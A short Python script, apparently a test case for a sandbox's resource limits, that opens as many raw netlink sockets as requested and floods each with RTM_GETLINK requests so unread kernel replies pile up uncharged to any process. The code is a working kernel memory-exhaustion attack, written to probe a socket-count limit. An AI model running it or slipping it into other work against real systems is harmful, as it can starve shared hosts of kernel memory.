"""Threat: answers of the kernel that wait in netlink sockets: they are charged to nobody.

Layer: the count of sockets. It would succeed when as many sockets as the number given hold, for a
second, as many answers as fit.
"""

import contextlib
import resource
import socket
import struct
import sys
import time

import _kit

# RTM_GETLINK of lo: some 1,400 bytes.
ASK = struct.pack("=IHHIIBxHiII", 32, 18, 1, 1, 0, 0, 0, 1, 0, 0)
FULL = 150  # answers; the rest is dropped


def attack() -> str:
    """Fill one socket after the other."""
    wanted = int(sys.argv[1])
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    held = [socket.socket(socket.AF_NETLINK, socket.SOCK_RAW) for _ in range(wanted)]
    for sock in held:
        for _ in range(FULL):
            with contextlib.suppress(BlockingIOError):
                sock.send(ASK, socket.MSG_DONTWAIT)
    time.sleep(1)
    return f"{len(held)} sockets, as full as they get"


_kit.run(attack)
